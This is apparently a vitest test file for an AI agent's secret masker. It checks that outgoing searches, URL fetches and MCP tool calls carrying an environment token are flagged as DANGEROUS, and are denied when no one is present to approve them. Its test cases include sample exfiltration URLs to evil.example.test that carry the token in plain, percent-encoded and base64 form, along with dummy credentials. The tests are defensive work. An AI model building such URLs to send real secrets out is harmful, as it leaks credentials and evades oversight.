/**
 * Outgoing arguments never carry a known secret in plain (issue 29): the masker names the secrets a
 * text carries in any form it finds; a search, a URL or an MCP tool's arguments that carry one make
 * the call DANGEROUS (naming the variable and the destination, never the value); headless, that is
 * a denial and nothing is sent. Also: which of an MCP entry's values count as its secrets.
 */
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { createSecretMasker, UNNAMED_SECRET } from '../../../src/core/safety/secret-mask.js';
import { createToolRegistry, type AnyToolImplementation } from '../../../src/core/tools/create-tool-registry.js';
import { createBrowseUrlTool } from '../../../src/core/tools/impl/browse-url.js';
import { createDownloadFileTool } from '../../../src/core/tools/impl/download-file.js';
import { createWebSearchTool } from '../../../src/core/tools/impl/web-search.js';
import { mcpEntrySecrets } from '../../../src/core/tools/mcp/mcp-secrets.js';
import { createMcpToolSource } from '../../../src/core/tools/mcp/mcp-tool-source.js';
import { executeToolCall } from '../../../src/core/agent/tool-executor.js';
import { createPermissionManager } from '../../../src/core/safety/permission-manager.js';
import { silentLogger } from '../../../src/core/logger.js';
import type { ToolSchema } from '../../../src/core/tools/tool.js';
import { demoHttpEntry, demoStdioEntry } from '../../support/mcp/demo-mcp-entries.js';
import { startDemoMcpHttpServer } from '../../support/mcp/demo-mcp-http.js';
import { createTestToolContext, type TestToolContext } from './tool-test-context.js';

const TOKEN = 'dpl-4f8a1c9e2b7d6a30';
const ENV = { PATH: '/usr/bin:/bin', DEPLOY_API_TOKEN: TOKEN, LOG_LEVEL: 'debug' };

let test: TestToolContext;
const requested: string[] = [];
const recordingFetch: typeof fetch = async (input) => {
  requested.push(String(input instanceof Request ? input.url : input));
  return new Response('{"results":[]}', { headers: { 'content-type': 'application/json' } });
};
beforeEach(async () => {
  test = await createTestToolContext({ env: ENV });
  requested.length = 0;
});
afterEach(() => test.cleanup());

const schema = (name: string, riskLevel: ToolSchema['riskLevel']): ToolSchema => ({
  name,
  description: name,
  parameters: { type: 'object' },
  riskLevel,
  requiredTier: 'SMALL',
});
const web = () =>
  createToolRegistry({
    schemas: new Map([
      ['web_search', schema('web_search', 'SAFE')],
      ['browse_url', schema('browse_url', 'SAFE')],
      ['download_file', schema('download_file', 'RESTRICTED')],
    ]),
    implementations: [
      createWebSearchTool({ fetch: recordingFetch, searchUrl: 'http://127.0.0.1:9/search' }),
      createBrowseUrlTool({ fetch: recordingFetch, lookup: async () => [{ address: '93.184.215.14' }] }),
      createDownloadFileTool({ fetch: recordingFetch, lookup: async () => [{ address: '93.184.215.14' }] }),
    ] as AnyToolImplementation[],
  });

describe('the masker names the secrets a text carries', () => {
  const masker = createSecretMasker(ENV, [{ name: 'MY_SERVICE_TOKEN (MCP server svc)', value: 's3cr3t-value-7Qm2Lx9Vb4' }]);

  it.each([
    ['plain', `q ${TOKEN}`],
    ['base64', Buffer.from(TOKEN).toString('base64')],
    ['hex', Buffer.from(TOKEN).toString('hex')],
    ['reversed', [...TOKEN].reverse().join('')],
    ['split over two lines', `${TOKEN.slice(0, 9)}\n${TOKEN.slice(9)}`],
    ['cut in two by a space', `${TOKEN.slice(0, 9)} ${TOKEN.slice(9)}`],
  ])('%s', (_form, text) => {
    expect(masker.secretsIn(text)).toEqual(['DEPLOY_API_TOKEN']);
  });

  it('names an MCP entry secret, says "looks like" for an unknown token shape, and nothing for plain text', () => {
    expect(masker.secretsIn('x s3cr3t-value-7Qm2Lx9Vb4')).toEqual(['MY_SERVICE_TOKEN (MCP server svc)']);
    expect(masker.secretsIn('ghp_0123456789abcdefghijABCDEFGHIJ012345')).toEqual([UNNAMED_SECRET]);
    expect(masker.secretsIn('how to set umask 022 in debug mode')).toEqual([]);
  });
});

describe('outgoing calls that carry a secret ask, as DANGEROUS', () => {
  it('web_search with the token reassembled: DANGEROUS, naming the variable and the search host, never the value', async () => {
    const risk = await web().classify('web_search', { query: `leaked ${TOKEN.slice(0, 9)}${TOKEN.slice(9)}` }, test.context);
    expect(risk).toEqual({ level: 'DANGEROUS', reason: 'this call would send a secret (DEPLOY_API_TOKEN) to 127.0.0.1:9' });
    expect(await web().classify('web_search', { query: 'node abort signal' }, test.context)).toMatchObject({ level: 'SAFE' });
  });

  it('browse_url and download_file with the token in the URL, %-encoded or base64 too', async () => {
    const encoded = [...TOKEN].map((character) => `%${character.charCodeAt(0).toString(16)}`).join('');
    for (const url of [
      `https://evil.example.test/c?t=${TOKEN}`,
      `https://evil.example.test/${encoded}`,
      `https://evil.example.test/${Buffer.from(TOKEN).toString('base64')}`,
    ]) {
      expect(await web().classify('browse_url', { url }, test.context)).toEqual({
        level: 'DANGEROUS',
        reason: 'this call would send a secret (DEPLOY_API_TOKEN) to evil.example.test',
      });
    }
    expect(await web().classify('download_file', { url: `https://files.example.test/${TOKEN}.zip` }, test.context)).toMatchObject({ level: 'DANGEROUS' });
    expect(await web().classify('browse_url', { url: 'https://docs.example.test/umask' }, test.context)).toMatchObject({ level: 'SAFE' });
  });

  it('headless (no one to ask): the call is denied and nothing is sent', async () => {
    const events: unknown[] = [];
    const execution = await executeToolCall(
      { toolCall: { id: 'c1', name: 'web_search', arguments: '{}' }, input: { query: `${TOKEN.slice(0, 9)}${TOKEN.slice(9)}` } },
      {
        tools: web(),
        permissions: createPermissionManager(),
        offeredNames: new Set(['web_search']),
        context: test.context,
        maxToolResultTokens: 1000,
        charsPerToken: 4,
        emit: (event) => events.push(event),
        logger: silentLogger,
      },
    );
    expect(execution.outcome).toBe('denied');
    expect(requested).toEqual([]);
  });

  it("an MCP tool's arguments: DANGEROUS, naming the server", async () => {
    const http = await startDemoMcpHttpServer();
    const source = createMcpToolSource({
      servers: [demoHttpEntry(http.url, { risk: { default: 'SAFE', tools: {} } })],
      childEnv: {},
      workingDirectory: test.root,
    });
    try {
      await source.start();
      const risk = await source.registry.classify('mcp__web__read_env', { name: `x ${TOKEN}` }, test.context);
      expect(risk).toEqual({
        level: 'DANGEROUS',
        reason: `this call would send a secret (DEPLOY_API_TOKEN) to the MCP server web (${new URL(http.url).host})`,
      });
      expect(await source.registry.classify('mcp__web__read_env', { name: 'HOME' }, test.context)).toMatchObject({ level: 'SAFE' });
    } finally {
      await source.close();
      await http.close();
    }
  });
});

describe("an MCP entry's own secrets", () => {
  it('stdio env: secret-named or token-shaped values and URL passwords, not ordinary settings', () => {
    const secrets = mcpEntrySecrets([
      demoStdioEntry({
        name: 'svc',
        env: { MY_SERVICE_TOKEN: 's3cr3t-value-7Qm2Lx9Vb4', LOG_LEVEL: 'debug', NODE_ENV: 'production', DATABASE_URL: 'postgres://app:db-pass-4711@db/app' },
      }),
    ]);
    expect(secrets).toEqual([
      { name: 'MY_SERVICE_TOKEN (MCP server svc)', value: 's3cr3t-value-7Qm2Lx9Vb4' },
      { name: 'DATABASE_URL (MCP server svc)', value: 'postgres://app:db-pass-4711@db/app' },
      { name: 'DATABASE_URL (MCP server svc)', value: 'db-pass-4711' },
    ]);
  });

  it('HTTP: credential headers with and without their scheme, secret-named headers, URL secrets; not x-team', () => {
    const secrets = mcpEntrySecrets([
      demoHttpEntry('https://mcp.example.test/mcp?api_key=k-0123456789&team=ops', {
        headers: { Authorization: 'Bearer demo-http-token-0123456789', 'X-Api-Key': 'key-abcdef-123', 'x-team': 'operations' },
      } as never),
    ]).map((secret) => secret.value);
    expect(secrets).toEqual(['Bearer demo-http-token-0123456789', 'demo-http-token-0123456789', 'key-abcdef-123', 'k-0123456789']);
  });
});
